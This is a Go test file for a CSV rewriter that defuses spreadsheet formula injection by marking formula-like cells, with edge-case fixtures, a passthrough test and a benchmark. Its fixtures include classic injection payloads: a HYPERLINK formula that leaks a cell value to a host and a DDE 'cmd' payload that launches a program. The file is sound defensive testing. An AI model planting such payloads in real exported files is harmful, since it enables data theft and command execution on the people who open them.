package handlers

import (
	"bytes"
	"encoding/csv"
	"io"
	"strconv"
	"strings"
	"testing"
	"testing/iotest"
)

// defuseCell is the rule the rewriter follows, cell by cell, for the test
// to check it against a real CSV parser.
func defuseCell(f string) string {
	// Blanks a spreadsheet skips, then a sign, a fullwidth one included.
	if lead := strings.TrimLeft(f, " \u00a0\n"); lead != "" && (lead != f && strings.ContainsRune("=+-@\t\r", rune(lead[0])) ||
		strings.HasPrefix(lead, "＝") || strings.HasPrefix(lead, "＋") || strings.HasPrefix(lead, "－") || strings.HasPrefix(lead, "＠")) {
		return "'" + f
	}
	if f == "" || !strings.ContainsRune("=+-@\t\r", rune(f[0])) {
		return f
	}
	if _, err := strconv.ParseFloat(f, 64); err == nil && len(f) <= maxNumberBytes {
		return f
	}
	return "'" + f
}

// The rewriter's output reads, cell by cell, as the service's file with
// formula cells marked, however the file is cut into reads.
func TestDefusedCSVMarksFormulaCells(t *testing.T) {
	long := "-" + strings.Repeat("1", 80)
	files := []string{
		"Id,Name,City,Z\n1001,\"=HYPERLINK(\"\"http://x/?\"\"&A1)\",+cmd|' /C calc'!A0,-1.59\n",
		"a,b\r\n=1+1,@SUM(A1)\r\n-,+\r\n\"-2+3\",\"+4\"\r\n",
		"x,\"\"\"=quoted start\",\"\"\n\"\t tab\",\"\rcr\",\t\n",
		"-1e3,+0.5,-.5,-Inf,-2+3,\"-7\"\"\",\"\"\n",
		long + "," + strings.Repeat("x", 100) + ",\"" + long + "\"\n",
		"last,=cell,-12",
		"",
		"unterminated,\"=open quote",
		"a, =1,\u00a0@x,\"\n=2\",＝3, ＋4,\u00a0\u00a0-5,－6, plain,\u00a0text,©x,\" \n\u00a0＠7\",\"\u00a0\"\"q\"\n",
		"\u00a0\u00a0,  , \u00a0,＝,\"＝\",\"  \"\n",
	}
	for _, f := range files {
		var want [][]string
		r := csv.NewReader(strings.NewReader(f))
		r.FieldsPerRecord, r.LazyQuotes = -1, true
		recs, perr := r.ReadAll()
		for _, rec := range recs {
			row := make([]string, len(rec))
			for i, c := range rec {
				row[i] = defuseCell(c)
			}
			want = append(want, row)
		}
		for name, src := range map[string]io.Reader{
			"whole": strings.NewReader(f), "byte by byte": iotest.OneByteReader(strings.NewReader(f)),
		} {
			out, err := io.ReadAll(newDefusedCSV(src))
			if err != nil {
				t.Fatalf("%q %s: %v", f, name, err)
			}
			r := csv.NewReader(bytes.NewReader(out))
			r.FieldsPerRecord, r.LazyQuotes = -1, true
			got, gerr := r.ReadAll()
			if (perr == nil) != (gerr == nil) || len(got) != len(want) {
				t.Errorf("%q %s: %q (%v), want %q (%v)", f, name, got, gerr, want, perr)
				continue
			}
			for i := range want {
				if strings.Join(got[i], "|") != strings.Join(want[i], "|") {
					t.Errorf("%q %s: record %d = %q, want %q", f, name, i, got[i], want[i])
				}
			}
		}
	}
}

// A file without formula cells passes byte for byte.
func TestDefusedCSVKeepsPlainFiles(t *testing.T) {
	f := "Id,Name,Z\r\n1001,\"Smith, \"\"Jr\"\"\",-1.59\r\n1002,,\n"
	out, err := io.ReadAll(newDefusedCSV(iotest.HalfReader(strings.NewReader(f))))
	if err != nil || string(out) != f {
		t.Errorf("got %q, %v; want the file unchanged", out, err)
	}
}

// BenchmarkDefusedCSV is the rewriter's pace on rows of the Standard
// layout, against which the service's own pace (tens of MB/s) is measured.
func BenchmarkDefusedCSV(b *testing.B) {
	row := "1001,\"Westbridge Department Stores, Inc\",101,Retail watchlist,Columbus,OH,US,452210,Department Stores,Y,7,42,35,-1.59\n"
	file := []byte(strings.Repeat(row, 20000))
	b.SetBytes(int64(len(file)))
	for b.Loop() {
		if _, err := io.Copy(io.Discard, newDefusedCSV(bytes.NewReader(file))); err != nil {
			b.Fatal(err)
		}
	}
}
